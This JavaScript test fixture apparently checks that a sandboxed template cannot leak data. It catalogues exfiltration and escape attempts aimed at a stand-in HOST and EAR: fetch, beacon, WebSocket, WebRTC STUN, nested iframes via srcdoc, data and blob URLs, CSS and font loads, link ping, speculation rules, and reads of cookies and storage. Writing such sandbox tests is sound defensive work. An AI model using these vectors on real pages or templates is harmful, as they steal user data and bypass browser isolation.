// What a template would try that wants to tell somebody what it has seen. HOST and EAR are put in by the test.
const call = `const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:EAR" }] })
  call.createDataChannel("x")
  call.createOffer().then(offer => call.setLocalDescription(offer))`
const nested = `<script>${call}</${'script'}>`
const frame = (prepare) => {
  const made = document.createElement('iframe')
  prepare(made)
  document.body.append(made)
}

const TRIES = {
  parent: () => parent.document.body.innerHTML,
  top: () => top.location.href,
  'local storage': () => localStorage.length,
  'session storage': () => sessionStorage.length,
  cookies: () => document.cookie,
  'databases': () => indexedDB.open('x'),
  caches: () => caches.keys(),
  'files of the page': () => fetch('/tasks').then((answer) => answer.text()),
  'another host': () => fetch('http://HOST/?fetch'),
  'a request of the old kind': () => {
    const request = new XMLHttpRequest()
    request.open('GET', 'http://HOST/?old', false)
    request.send()
  },
  'a socket': () => new Promise((yes, no) => Object.assign(new WebSocket('ws://HOST/'), { onopen: yes, onerror: no })),
  events: () => new Promise((yes, no) => Object.assign(new EventSource('http://HOST/'), { onopen: yes, onerror: no })),
  'a worker': () =>
    new Promise((yes, no) => Object.assign(new Worker('data:text/javascript,postMessage(1)'), { onmessage: yes, onerror: no })),
  'code from elsewhere': () => import('http://HOST/x.js'),
  'another policy': () => trustedTypes.createPolicy('mine', { createHTML: (html) => html }),
  'the policy again': () => trustedTypes.createPolicy('default', { createHTML: (html) => html }),
  'a call': () => new RTCPeerConnection(),
}

const QUIET = [
  () => navigator.sendBeacon('http://HOST/?beacon', 'x'),
  () => (new Image().src = 'http://HOST/?image'),
  () => window.open('http://HOST/?window'),
  () => (parent.location = 'http://HOST/?parent'),
  () => (top.location.href = 'http://HOST/?top'),
  () => frame((made) => (made.srcdoc = nested)),
  () => frame((made) => made.setAttribute('srcdoc', nested)),
  () => frame((made) => (made.src = `javascript:${call}`)),
  () => frame((made) => (made.src = `data:text/html,${nested}`)),
  () => frame((made) => (made.src = URL.createObjectURL(new Blob([nested], { type: 'text/html' })))),
  () => document.body.insertAdjacentHTML('beforeend', `<IFRAME\nsrcdoc='${nested}'></IFRAME>`),
  () => {
    const place = document.createElement('div')
    document.body.append(place)
    place.attachShadow({ mode: 'open' }).innerHTML = `<iframe srcdoc='${nested}'></iframe>`
  },
  () => document.body.append(document.createRange().createContextualFragment(`<iframe srcdoc='${nested}'></iframe>`)),
  () => document.body.append(new DOMParser().parseFromString(`<iframe srcdoc='${nested}'></iframe>`, 'text/html').body),
  () => {
    const svg = document.createElement('div')
    svg.innerHTML = '<svg><foreignObject><iframe></iframe></foreignObject></svg>'
    document.body.append(svg)
  },
  ...[
    '<link rel=stylesheet href=http://HOST/a>',
    '<link rel=prefetch href=http://HOST/b>',
    '<link rel=preconnect href=http://HOST/>',
    '<link rel=modulepreload href=http://HOST/c>',
    '<link rel=preload as=image href=http://HOST/d>',
    '<iframe src=http://HOST/e></iframe>',
    '<object data=http://HOST/f></object>',
    '<embed src=http://HOST/g>',
    '<video src=http://HOST/h poster=http://HOST/i>',
    '<audio src=http://HOST/j>',
    '<svg><image href=http://HOST/k /></svg>',
    '<style>@import "http://HOST/l"</style>',
    '<p style="background: url(http://HOST/m)">x</p>',
    '<style>@font-face { font-family: f; src: url(http://HOST/n) }</style><p style="font-family: f">x</p>',
    '<form id=leak action=http://HOST/p><input name=x></form>',
    '<a id=up target=_top href=http://HOST/q>x</a>',
    '<a id=ping ping=http://HOST/r href=#>x</a>',
  ].map((html) => () => document.body.insertAdjacentHTML('beforeend', html)),
  () => HTMLFormElement.prototype.submit.call(leak),
  () => up.click(),
  () => ping.click(),
  () => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = '{"prefetch": [{"urls": ["http://HOST/s"]}], "prerender": [{"urls": ["http://HOST/t"]}]}'
    document.body.append(rules)
  },
]

document.addEventListener('all-crowd-elements-ready', async () => {
  const out = []
  for (const [name, attempt] of Object.entries(TRIES))
    try {
      await attempt()
      out.push(name)
    } catch {
      // refused, as it should be
    }
  document.body.dataset.out = out.join(', ') || 'nothing'
  document.addEventListener('go', () => {
    for (const attempt of QUIET)
      try {
        attempt()
      } catch {
        // what counts is what the other host hears
      }
  })
})
